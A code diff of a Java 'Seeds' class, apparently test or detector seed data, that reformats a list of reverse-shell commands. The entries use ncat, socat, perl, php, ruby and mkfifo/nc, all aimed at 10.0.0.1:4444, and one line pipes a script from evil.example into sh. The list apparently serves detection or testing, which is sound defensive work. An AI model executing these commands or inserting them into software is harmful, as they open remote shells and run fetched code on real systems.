@@ -41,12 +41,19 @@ final class Seeds {
             Seed.simple("ncat 10.0.0.1 4444 -e /bin/bash"),
             Seed.simple("socat TCP:10.0.0.1:4444 EXEC:/bin/bash"),
             Seed.argv("python3", "-c", PY_REVERSE),
-            Seed.argv("perl", "-e", "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
-                    + "connect(S,sockaddr_in(4444,inet_aton(\"10.0.0.1\")));open(STDIN,\">&S\");open(STDOUT,\">&S\");"
-                    + "exec(\"/bin/sh -i\");"),
+            Seed.argv(
+                    "perl",
+                    "-e",
+                    "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
+                            + "connect(S,sockaddr_in(4444,inet_aton(\"10.0.0.1\")));open(STDIN,\">&S\");open(STDOUT,\">&S\");"
+                            + "exec(\"/bin/sh -i\");"),
             Seed.argv("php", "-r", "$s=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");"),
-            Seed.argv("ruby", "-rsocket", "-e", "c=TCPSocket.new(\"10.0.0.1\",4444);"
-                    + "while(cmd=c.gets);IO.popen(cmd,\"r\"){|io|c.print io.read}end"),
+            Seed.argv(
+                    "ruby",
+                    "-rsocket",
+                    "-e",
+                    "c=TCPSocket.new(\"10.0.0.1\",4444);"
+                            + "while(cmd=c.gets);IO.popen(cmd,\"r\"){|io|c.print io.read}end"),
             Seed.code("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f", false),
             // download and run
             Seed.simple("curl -s http://evil.example/x.sh", " | sh", false),
